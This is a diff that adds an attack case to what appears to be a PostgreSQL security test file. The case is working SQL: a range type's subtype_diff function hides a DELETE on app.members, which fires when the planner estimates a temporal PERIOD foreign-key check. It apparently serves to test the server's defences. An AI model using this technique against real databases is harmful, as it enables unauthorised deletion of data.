@@ -282,3 +282,23 @@ SELECT retention.reinstate('app.back', 1);
 UPDATE app.back SET n = 1 WHERE n = app.im(1);
 -- then
 SELECT 'it is ' || 'gone' WHERE NOT EXISTS (SELECT FROM app.members WHERE id = 2);
+
+-- attempt: subtype_diff, called by an estimator while the check of a PERIOD is planned, does as the server's cascade does
+-- from: 18
+-- control: none
+-- errors: expected
+-- shows: it is gone
+-- attack
+CREATE FUNCTION pg_temp.w() RETURNS int LANGUAGE plpgsql AS $$BEGIN EXECUTE 'DELETE FROM ONLY app.members WHERE $1 = account_id' USING 1; RETURN 1; END$$;
+CREATE FUNCTION pg_temp.diff(int, int) RETURNS float8 IMMUTABLE LANGUAGE plpgsql AS $$BEGIN IF current_setting('loot.armed', true) = 'yes' THEN EXECUTE 'SELECT pg_temp.w()'; END IF; RETURN $1 - $2; END$$;
+CREATE TYPE pg_temp.r AS RANGE (subtype = int, subtype_diff = pg_temp.diff);
+CREATE TEMP TABLE ups (id int, valid pg_temp.r, PRIMARY KEY (id, valid WITHOUT OVERLAPS));
+CREATE TEMP TABLE kids (id int, valid pg_temp.r, FOREIGN KEY (id, PERIOD valid) REFERENCES ups (id, PERIOD valid));
+INSERT INTO ups SELECT n % 3, pg_temp.r(n * 10, n * 10 + 35) FROM generate_series(1, 900) n WHERE n % 12 < 3;
+ANALYZE ups;
+SET loot.armed = 'yes';
+INSERT INTO kids VALUES (1, '[133,137)');
+INSERT INTO kids SELECT id, pg_temp.r(lower(valid) + 1, upper(valid) - 1) FROM ups LIMIT 3;
+DELETE FROM ups WHERE id = 2;
+-- then
+SELECT 'it is ' || 'gone' WHERE NOT EXISTS (SELECT FROM app.members WHERE id = 2);
